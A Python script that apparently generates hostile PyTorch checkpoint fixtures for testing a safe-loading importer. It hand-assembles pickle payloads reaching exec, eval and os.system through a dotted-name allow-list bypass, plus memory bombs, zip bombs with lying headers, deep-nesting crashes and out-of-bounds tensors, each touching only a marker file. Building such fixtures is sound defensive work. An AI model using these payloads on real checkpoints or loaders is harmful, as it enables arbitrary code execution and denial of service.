#!/usr/bin/python3
"""Write hostile checkpoints for the ltcc-import tests.

usage: make_evil.py OUTDIR MARKERDIR

Every payload that tries to run code would create MARKERDIR/NAME (NAME is the
checkpoint's name without .pt), so a test can tell a refusal from a run.  The
payloads are written opcode by opcode (the few well-formed checkpoint pickles
by pickle.Pickler); nothing here unpickles anything.  PAYLOADS lists them:
code execution through dotted names (exec-stack-global, eval-global,
system-getattr), names the old `torch` + endswith("Storage") rule admitted
(storage-suffix, untyped-storage), plain dangerous names (builtins-exec,
posix-system), the INST opcode, allowed names used in ways no checkpoint
does (call-storage, call-tensor, bytearray, reconstructor, set-range,
from-type, placeholder-call) and deep nesting (deep).

  raw-*.pt      one bare pickle, as torch.load's legacy reader sees it first
  legacy-*.pt   PyTorch's legacy layout (magic, protocol, sys info, pickle,
                storage keys), the payload in the main pickle
  zip-*.pt      PyTorch's zip layout, the payload in archive/data.pkl
  bomb-*.pt     zip and legacy files that claim or inflate to gigabytes
  zip-torchscript.pt  a TorchScript archive (torch.load hands it to torch.jit.load)
  zip-outside.pt, zip-expand.pt  tensors bigger than their storage

The code-running payloads reach exec/eval/os.system through a dotted name
that begins with `_rebuild_` (pickle protocol 4 resolves a dotted name
attribute by attribute: torch._utils._rebuild_tensor.__builtins__ is the
builtins dict, and its .get hands out exec, eval, getattr and __import__).
"""
import collections
import os
import pickle
import struct
import sys
import zlib

import torch

MAGIC, LEGACY_PROTOCOL = 0x1950a86a20f9469cfc6c, 1001


# ---- pickle opcodes ----

def proto(n):
    return b"\x80" + bytes([n])


def s(text):                        # SHORT_BINUNICODE or BINUNICODE, then MEMOIZE
    b = text.encode()
    op = b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))
    return op + b + b"\x94"


def glob(module, name):             # the GLOBAL opcode
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_glob(module, name):       # STACK_GLOBAL on two string constants
    return s(module) + s(name) + b"\x93"


def call1(arg):                     # (arg,) REDUCE: call what is on the stack
    return s(arg) + b"\x85R"


def long1(n):
    b = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(b)]) + b


STOP = b"."
TUPLE1, TUPLE2, TUPLE3, REDUCE, POP, MARK = b"\x85", b"\x86", b"\x87", b"R", b"0", b"("
MEMOIZE, NONE, EMPTY_TUPLE, TUPLE = b"\x94", b"N", b")", b"t"


def get(i):
    return b"h" + bytes([i])


# ---- payloads: fn(marker) -> pickle bytes ----

# code execution: the old allow-list admitted any torch._utils name starting
# with _rebuild_, dots included

def exec_via_stack_global(marker):
    return (proto(4) + stack_glob("torch._utils", "_rebuild_tensor.__builtins__.get")
            + call1("exec") + call1("open(%r, 'w').write('pwned')" % marker) + STOP)


def eval_via_global(marker):
    return (proto(4) + glob("torch._utils", "_rebuild_tensor_v2.__builtins__.get")
            + call1("eval") + call1("__import__('os').system('touch %s')" % marker) + STOP)


def system_via_getattr(marker):
    # getattr = get('getattr'); os = get('__import__')('os'); getattr(os, 'system')('touch ...')
    # (memo: 0, 1 the two names, 2 get, 3 'getattr', 4 getattr, 5 '__import__', 6 'os', 7 os)
    p = proto(4) + stack_glob("torch._utils", "_rebuild_parameter.__builtins__.get") + MEMOIZE
    p += s("getattr") + TUPLE1 + REDUCE + MEMOIZE
    p += get(2) + s("__import__") + TUPLE1 + REDUCE
    p += s("os") + TUPLE1 + REDUCE + MEMOIZE + POP
    p += get(4) + get(7) + s("system") + TUPLE2 + REDUCE
    p += call1("touch %s" % marker) + STOP
    return p


# names the old rules admitted by suffix, allowed names misused, refused ones

def storage_suffix_dotted(marker):
    # torch.storage.UntypedStorage: passed the old `torch` + endswith("Storage") rule
    return proto(4) + stack_glob("torch", "storage.UntypedStorage") + long1(1 << 30) + TUPLE1 + REDUCE + STOP


def storage_suffix_plain(marker):
    # torch.UntypedStorage(1 GiB): not a storage type a checkpoint names
    return proto(2) + glob("torch", "UntypedStorage") + long1(1 << 30) + TUPLE1 + REDUCE + STOP


def call_storage_type(marker):
    # torch.FloatStorage is allowed as a storage type, but calling it allocates
    return proto(2) + glob("torch", "FloatStorage") + long1(1 << 28) + TUPLE1 + REDUCE + STOP


def call_tensor_type(marker):
    return proto(2) + glob("torch", "Tensor") + long1(1 << 28) + TUPLE1 + REDUCE + STOP


def bytearray_bomb(marker):
    # builtins.bytearray(1 GiB): an allowed builtin that allocates what it is told
    return proto(2) + glob("builtins", "bytearray") + long1(1 << 30) + TUPLE1 + REDUCE + STOP


def big_range():
    return glob("builtins", "range") + long1(10 ** 7) + TUPLE1 + REDUCE


def reconstructor_bomb(marker):
    # copyreg._reconstructor(set, set, range(10**7)) calls set.__init__(obj, range(10**7))
    st = glob("builtins", "set")
    return proto(2) + glob("copyreg", "_reconstructor") + st + st + big_range() + TUPLE3 + REDUCE + STOP


def set_of_range(marker):
    # builtins.set(range(10**7)): an allowed builtin iterating an allowed lazy range (~0.5 GB)
    return proto(2) + glob("builtins", "set") + big_range() + TUPLE1 + REDUCE + STOP


def plain_exec(marker):
    return proto(2) + glob("builtins", "exec") + call1("open(%r, 'w').write('pwned')" % marker) + STOP


def plain_system(marker):
    return proto(2) + glob("posix", "system") + call1("touch %s" % marker) + STOP


def inst_opcode(marker):
    # protocol 0's INST: find_class then call, in one opcode
    return MARK + s("touch %s" % marker) + b"ios\nsystem\n" + STOP


def rebuild_from_type_func(marker):
    # _rebuild_from_type_v2(func, type, args, state) calls func(*args): func must be a tensor rebuilder
    return (proto(2) + glob("torch._tensor", "_rebuild_from_type_v2")
            + MARK + glob("builtins", "set") + glob("torch", "Tensor") + EMPTY_TUPLE + NONE + TUPLE
            + REDUCE + STOP)


def placeholder_called(marker):
    # an unknown class is an inert placeholder: calling an instance of it is refused
    return (proto(2) + glob("fairseq.meters", "AverageMeter") + EMPTY_TUPLE + REDUCE
            + call1("touch %s" % marker) + STOP)


def deep_key(marker):
    # a dict keyed by a tuple nested 10**6 deep: hashing it overflows CPython's C stack
    return proto(2) + b"}" + NONE + TUPLE1 * 10 ** 6 + b"K\x01s" + STOP


PAYLOADS = collections.OrderedDict([
    ("exec-stack-global", exec_via_stack_global),
    ("eval-global", eval_via_global),
    ("system-getattr", system_via_getattr),
    ("storage-suffix", storage_suffix_dotted),
    ("untyped-storage", storage_suffix_plain),
    ("call-storage", call_storage_type),
    ("call-tensor", call_tensor_type),
    ("bytearray", bytearray_bomb),
    ("reconstructor", reconstructor_bomb),
    ("set-range", set_of_range),
    ("builtins-exec", plain_exec),
    ("posix-system", plain_system),
    ("inst", inst_opcode),
    ("from-type", rebuild_from_type_func),
    ("placeholder-call", placeholder_called),
    ("deep", deep_key),
])


# ---- containers ----

def legacy(main_pickle, keys=()):
    return (pickle.dumps(MAGIC, protocol=2) + pickle.dumps(LEGACY_PROTOCOL, protocol=2)
            + pickle.dumps({"protocol_version": LEGACY_PROTOCOL, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
            + main_pickle + pickle.dumps(list(keys), protocol=2))


def zip_file(path, members):
    """members: [(name, body, declared_size, crc, method)], body already
    compressed for method 8.  Written by hand so a header can lie."""
    out, central = bytearray(), bytearray()
    for name, body, size, crc, method in members:
        n = name.encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, method, 0, 0x21,
                               crc, len(body), size, len(n), 0, 0, 0, 0, 0, len(out)) + n
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, method, 0, 0x21, crc, len(body),
                           size, len(n), 0) + n + body
    cd_at = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members), len(members),
                                 len(central), cd_at, 0)
    with open(path, "wb") as f:
        f.write(out)


def stored(name, data):
    return (name, data, len(data), zlib.crc32(data), 0)


def deflated_zeros(n, chunk=1 << 20):
    """A raw deflate stream of n zero bytes, and its CRC, without compressing
    n bytes: one flushed chunk repeated (a full flush drops the history), then
    the rest and the final block."""
    full, rest = divmod(n, chunk)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = co.compress(bytes(chunk)) + co.flush(zlib.Z_FULL_FLUSH)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = co.compress(bytes(rest)) + co.flush(zlib.Z_FINISH)
    crc, z = 0, bytes(chunk)
    for _ in range(full):
        crc = zlib.crc32(z, crc)
    return block * full + tail, zlib.crc32(bytes(rest), crc)


def checkpoint_zip(path, data_pkl, extra=()):
    zip_file(path, [stored("archive/data.pkl", data_pkl), stored("archive/version", b"3\n")]
             + list(extra))


# a real-looking checkpoint pickle with one float tensor on storage "0"
class _StorageRef:
    pass


class _TensorRef:
    def __init__(self, storage, size, stride):
        self.storage, self.size, self.stride = storage, size, stride

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2,
                (self.storage, 0, self.size, self.stride, False, collections.OrderedDict()))


def tensor_pickle(numel, size=None, stride=(1,), legacy_layout=False):
    """A checkpoint pickle: args, and a model with one float tensor w of
    `size` (default: the whole storage) on a numel-element storage "0"."""
    ref = _StorageRef()

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            if obj is ref:
                pid = ("storage", torch.FloatStorage, "0", "cpu", numel)
                return pid + (None,) if legacy_layout else pid
            return None

    import argparse
    import io
    b = io.BytesIO()
    w = _TensorRef(ref, size or (numel,), stride)
    P(b, protocol=2).dump({"args": argparse.Namespace(arch="transformer_multibranch_v2"),
                           "model": collections.OrderedDict([("w", w)])})
    return b.getvalue()


def tensor_zip(path, numel, size, stride):
    data = struct.pack("<%df" % numel, *range(numel))
    checkpoint_zip(path, tensor_pickle(numel, size, stride), [stored("archive/data/0", data)])


def main(argv):
    if len(argv) != 3:
        sys.exit("usage: make_evil.py OUTDIR MARKERDIR")
    out, markers = argv[1], os.path.abspath(argv[2])
    os.makedirs(out, exist_ok=True)
    os.makedirs(markers, exist_ok=True)
    P = lambda n: os.path.join(out, n + ".pt")  # noqa: E731
    for name, make in PAYLOADS.items():
        for kind in ("raw", "legacy", "zip"):
            full = "%s-%s" % (kind, name)
            body = make(os.path.join(markers, full))
            if kind == "raw":
                with open(P(full), "wb") as f:
                    f.write(body)
            elif kind == "legacy":
                with open(P(full), "wb") as f:
                    f.write(legacy(body))
            else:
                checkpoint_zip(P(full), body)

    # a TorchScript archive: torch.load would hand it to torch.jit.load
    zip_file(P("zip-torchscript"), [stored("archive/data.pkl", pickle.dumps({}, protocol=2)),
                                    stored("archive/constants.pkl", pickle.dumps((), protocol=2)),
                                    stored("archive/code/__torch__.py", b"def f(): pass\n")])

    # tensors a storage cannot back: one reaching past its end (an out-of-bounds
    # read), one of 2**29 elements over a 1-element storage (stride 0: 2 GiB
    # once made contiguous)
    tensor_zip(P("zip-outside"), 4, (1 << 20,), (1,))
    tensor_zip(P("zip-expand"), 1, (1 << 29,), (0,))

    # ---- bombs ----
    gib = 1 << 30
    body, crc = deflated_zeros(gib)               # data.pkl that inflates to 1 GiB
    zip_file(P("bomb-pkl"), [("archive/data.pkl", body, gib, crc, 8), stored("archive/version", b"3\n")])
    numel = gib // 2                              # a 2 GiB float storage, deflated
    body, crc = deflated_zeros(numel * 4)
    zip_file(P("bomb-storage"), [stored("archive/data.pkl", tensor_pickle(numel)),
                                 ("archive/data/0", body, numel * 4, crc, 8),
                                 stored("archive/version", b"3\n")])
    body, _ = deflated_zeros(gib)                 # headers say 100 bytes; the stream says 1 GiB
    zip_file(P("bomb-lying"), [("archive/data.pkl", body, 100, zlib.crc32(bytes(100)), 8),
                               stored("archive/version", b"3\n")])
    with open(P("bomb-legacy"), "wb") as f:       # a legacy storage of 2^40 floats in a tiny file
        f.write(legacy(tensor_pickle(1 << 40, legacy_layout=True), ["0"])
                + struct.pack("<q", 1 << 40) + bytes(64))
    print("wrote hostile checkpoints to %s" % out)


if __name__ == "__main__":
    main(sys.argv)
